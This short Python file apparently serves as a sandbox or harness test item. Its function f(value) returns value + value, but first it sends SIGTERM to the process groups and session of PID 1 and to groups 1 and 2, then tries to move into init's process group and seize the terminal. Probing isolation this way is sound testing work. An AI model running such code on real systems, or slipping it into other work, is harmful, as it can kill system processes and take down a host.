# The groups and the session of process 1, of the parent and of nobody.
# must: pass
# not: next answer differs
import os
import signal


def f(value):
    reached = []
    for group in {os.getpgid(1), os.getsid(1), 1, 2} - {0, os.getpid()}:
        try:
            os.killpg(group, signal.SIGTERM)
            reached.append(group)
        except OSError:
            pass
    for step in (os.setsid, lambda: os.setpgid(0, 1), lambda: os.setpgid(1, 1), lambda: os.setpgid(0, 0), lambda: os.tcsetpgrp(0, 1)):
        try:
            step()
        except OSError:
            pass
    return reached or value + value
